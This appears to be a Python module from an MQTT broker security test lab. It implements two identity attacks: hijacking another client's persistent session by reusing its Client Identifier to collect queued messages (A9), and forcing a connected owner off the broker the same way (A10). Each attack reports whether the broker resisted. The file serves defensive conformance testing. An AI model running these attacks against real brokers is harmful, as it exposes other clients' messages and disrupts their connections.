# -*- test-case-name: tests.lab.attacks.test_table -*-
"""Being somebody else: rows A9 and A10."""

from __future__ import annotations

from typing import Any

from mqttsecure.lab.attacks.client import Unexpected
from mqttsecure.lab.attacks.dialling import dial, login, marker
from mqttsecure.lab.attacks.outcome import Seen, resisted, succeeded
from mqttsecure.lab.attacks.target import Target
from mqttsecure.wire.constants import MQTT_5_0

__all__ = ["kick_owner", "steal_session"]


def steal_session(target: Target) -> Seen:
    """A9: messages wait for the writer; the reader comes with the writer's Client Identifier."""
    payload = marker()
    owner, thief = target.writer, target.reader
    topic = f"{target.topics}/queued-for-the-owner"
    more: dict[str, Any] = {"clean_start": False}
    if target.version == MQTT_5_0:
        more["properties"] = {"session_expiry_interval": 60}
    with login(target, owner, **more) as client:
        client.subscribe(topic, qos=1)
    with login(target, owner, f"{owner.name}-2") as sender:
        sender.publish(topic, payload)
    found, entered = [], False
    with dial(target) as client:
        try:
            entered = client.connect(owner.name, thief.name, thief.password, clean_start=False) == 0
            found = [each for each in client.collect(1.0) if getattr(each, "payload", None) == payload]
        except Unexpected:
            pass
        present = bool(entered and client.connack is not None and client.connack.session_present)
    with login(target, owner) as again:  # so that nothing waits any more
        again.ping()
    if found:
        return succeeded(f"{thief.name} took over the session of {owner.name}, and got the message that waited in it")
    if present:
        return succeeded(f"{thief.name} took over the session of {owner.name}")
    return resisted("a session of its own, nothing of the owner's" if entered else "CONNECT refused")


def kick_owner(target: Target) -> Seen:
    """A10: the owner is connected; the reader comes with its Client Identifier."""
    with login(target, target.writer) as owner:
        with dial(target) as client:
            try:
                client.connect(target.writer.name, target.reader.name, target.reader.password)
            except Unexpected:
                pass
        try:
            owner.ping()
        except (Unexpected, TimeoutError):
            return succeeded(f"{target.writer.name} was disconnected by {target.reader.name}")
    return resisted("the owner stays connected")
